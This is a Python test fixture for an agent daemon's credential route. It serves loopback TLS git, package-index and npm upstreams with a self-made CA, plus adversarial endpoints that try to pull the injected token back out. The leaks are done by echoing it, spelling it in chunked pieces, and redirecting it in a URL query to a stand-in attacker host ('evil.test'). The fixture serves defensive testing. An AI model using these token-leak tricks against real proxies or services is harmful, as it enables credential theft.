"""The upstreams a credential route is tested against, on the host's loopback over TLS
with a CA of the test's own (the daemon is told to trust it for the route): git's
smart http (git http-backend) and a PEP 503 index, each requiring the token, and a few
paths that try to get the token back out (an echo, redirects)."""

from __future__ import annotations

import base64
import datetime
import functools
import http.server
import ssl
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from tests.credentials import spelled
from tests.network import servers


@dataclass(frozen=True)
class Tls:
    ca: Path
    cert: Path
    key: Path


def make_tls(base: Path, names: list[str]) -> Tls:
    """A CA and a server certificate for `names`, as PEM files under `base`."""
    now = datetime.datetime.now(datetime.UTC)
    ca_key = ec.generate_private_key(ec.SECP256R1())
    ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "agentd test CA")])
    ca = (
        x509.CertificateBuilder()
        .subject_name(ca_name)
        .issuer_name(ca_name)
        .public_key(ca_key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(hours=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .add_extension(
            x509.KeyUsage(False, False, False, False, False, True, True, False, False), True
        )
        .add_extension(x509.SubjectKeyIdentifier.from_public_key(ca_key.public_key()), False)
        .sign(ca_key, hashes.SHA256())
    )
    key = ec.generate_private_key(ec.SECP256R1())
    cert = (
        x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, names[0])]))
        .issuer_name(ca_name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(hours=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName(n) for n in names]), False)
        .add_extension(
            x509.AuthorityKeyIdentifier.from_issuer_public_key(ca_key.public_key()), False
        )
        .add_extension(x509.ExtendedKeyUsage([x509.oid.ExtendedKeyUsageOID.SERVER_AUTH]), False)
        .sign(ca_key, hashes.SHA256())
    )
    base.mkdir(parents=True, exist_ok=True)
    out = Tls(base / "ca.pem", base / "cert.pem", base / "key.pem")
    out.ca.write_bytes(ca.public_bytes(serialization.Encoding.PEM))
    out.cert.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    out.key.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return out


@dataclass
class Seen:
    """What an upstream was asked: each request's path and its Authorization."""

    requests: list[tuple[str, str, str]] = field(default_factory=list)  # method, path, auth

    def paths(self) -> list[str]:
        return [p for _, p, _ in self.requests]


class _Guarded:
    """Mixed into a handler: the token is required, and the test's leak paths answer."""

    # Keep-alive, as real upstreams: the route's kept upstream connections are used.
    protocol_version = "HTTP/1.1"
    close_connection: bool
    expected = ""  # the whole Authorization value the route must add
    seen: Seen
    evil = ""  # a URL the sandbox controls, for the redirect attack
    headers: object
    path: str
    command: str

    def _allowed(self) -> bool:
        auth = self.headers.get("Authorization", "")  # type: ignore[attr-defined]
        self.seen.requests.append((self.command, self.path, auth))
        leak = self.path.split("?")[0].rsplit("/", 1)[-1]
        if leak == "echo-auth":  # an upstream that echoes the request back
            # text/plain: on an http route the body is held and rewritten, then masked
            headers = [("X-Echo", auth), ("Content-Type", "text/plain")]
            self._plain(200, f"you sent: {auth}\n", headers)
            return False
        if leak == "echo-spellings":  # the token in every spelling, in 7-byte chunks
            self._spellings(auth)
            return False
        if leak == "redirect-out":
            self._plain(302, "moved\n", [("Location", f"{self.evil}/?{auth}")])
            return False
        if leak == "close-next":  # keeps the connection, then drops it while idle
            self._plain(200, "bye\n", [])
            self.close_connection = True
            return False
        if leak == "redirect-in":
            host = self.headers.get("Host", "")  # type: ignore[attr-defined]
            self._plain(302, "moved\n", [("Location", f"https://{host}/demo.git/info/refs")])
            return False
        if auth != self.expected:
            self._plain(401, "token required\n", [("WWW-Authenticate", 'Basic realm="t"')])
            return False
        return True

    def _spellings(self, auth: str) -> None:
        scheme, _, value = auth.partition(" ")
        user, token = "x", value
        if scheme == "Basic":
            user, _, token = base64.b64decode(value).decode().partition(":")
        body = "".join(f"{k}: {v}\n" for k, v in spelled.every(token, user).items()).encode()
        self.send_response(200)  # type: ignore[attr-defined]
        self.send_header("Content-Type", "text/plain")  # type: ignore[attr-defined]
        self.send_header("Transfer-Encoding", "chunked")  # type: ignore[attr-defined]
        self.end_headers()  # type: ignore[attr-defined]
        for i in range(0, len(body), 7):
            part = body[i : i + 7]
            self.wfile.write(b"%x\r\n%s\r\n" % (len(part), part))  # type: ignore[attr-defined]
        self.wfile.write(b"0\r\n\r\n")  # type: ignore[attr-defined]

    def _plain(self, status: int, body: str, headers: list[tuple[str, str]]) -> None:
        data = body.encode()
        self.send_response(status)  # type: ignore[attr-defined]
        for k, v in headers:
            self.send_header(k, v)  # type: ignore[attr-defined]
        self.send_header("Content-Length", str(len(data)))  # type: ignore[attr-defined]
        self.end_headers()  # type: ignore[attr-defined]
        self.wfile.write(data)  # type: ignore[attr-defined]


class _TokenGit(_Guarded, servers._GitHttp):
    def _cgi(self) -> None:
        if self._allowed():
            super()._cgi()

    do_GET = _cgi
    do_POST = _cgi


class _TokenIndex(_Guarded, servers._Quiet):
    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        if self._allowed():
            super().do_GET()


class _TokenRegistry(_TokenIndex):
    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        if self.path.count("/") == 1 and not self.path.endswith("echo-auth"):
            self.path = self.path.rstrip("/") + "/index.json"  # /NAME is the packument
        super().do_GET()


@contextmanager
def _tls_serving(handler: type[http.server.BaseHTTPRequestHandler], tls: Tls) -> Iterator[int]:
    server = servers._Server(("127.0.0.1", 0), handler)
    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ctx.load_cert_chain(str(tls.cert), str(tls.key))
    server.socket = ctx.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


@contextmanager
def git_https(root: Path, tls: Tls, expected: str, evil: str) -> Iterator[tuple[int, Seen]]:
    seen = Seen()
    attrs = {"project_root": str(root), "expected": expected, "seen": seen, "evil": evil}
    with _tls_serving(type("TokenGit", (_TokenGit,), attrs), tls) as port:
        yield port, seen


@contextmanager
def index_https(root: Path, tls: Tls, expected: str, evil: str) -> Iterator[tuple[int, Seen]]:
    seen = Seen()
    attrs = {"expected": expected, "seen": seen, "evil": evil}
    handler = type("TokenIndex", (_TokenIndex,), attrs)
    with _tls_serving(functools.partial(handler, directory=str(root)), tls) as port:  # type: ignore[arg-type]
        yield port, seen


@contextmanager
def registry_https(root: Path, tls: Tls, expected: str) -> Iterator[tuple[int, Seen]]:
    """An npm registry (packuments and tarballs as files) requiring the token."""
    seen = Seen()
    attrs = {"expected": expected, "seen": seen, "evil": "http://evil.test:9"}
    handler = type("TokenRegistry", (_TokenRegistry,), attrs)
    with _tls_serving(functools.partial(handler, directory=str(root)), tls) as port:  # type: ignore[arg-type]
        yield port, seen
